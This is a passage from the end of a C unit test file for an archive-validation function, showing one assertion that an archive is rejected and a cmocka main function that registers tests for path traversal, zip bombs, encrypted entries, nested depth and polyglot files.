	assert_int_equal(files_archive_check(&sb, type_of("zip"), &big, &res, tiny, sizeof(tiny)),
			 BW_ERR_UNPROCESSABLE);
	assert_int_equal(strlen(tiny), sizeof(tiny) - 1);
	free(o.p), free(b.p);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_documents_are_not_archives),
	    cmocka_unit_test(test_polyglot_with_no_entry),
	    cmocka_unit_test(test_formats_accepted),
	    cmocka_unit_test(test_office_containers),
	    cmocka_unit_test(test_traversal_and_absolute),
	    cmocka_unit_test(test_links_and_devices),
	    cmocka_unit_test(test_encrypted),
	    cmocka_unit_test(test_executables_inside),
	    cmocka_unit_test(test_zip_bomb_ratio),
	    cmocka_unit_test(test_zip_bomb_total),
	    cmocka_unit_test(test_entry_count),
	    cmocka_unit_test(test_depth),
	    cmocka_unit_test(test_polyglots),
	    cmocka_unit_test(test_source_fails),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
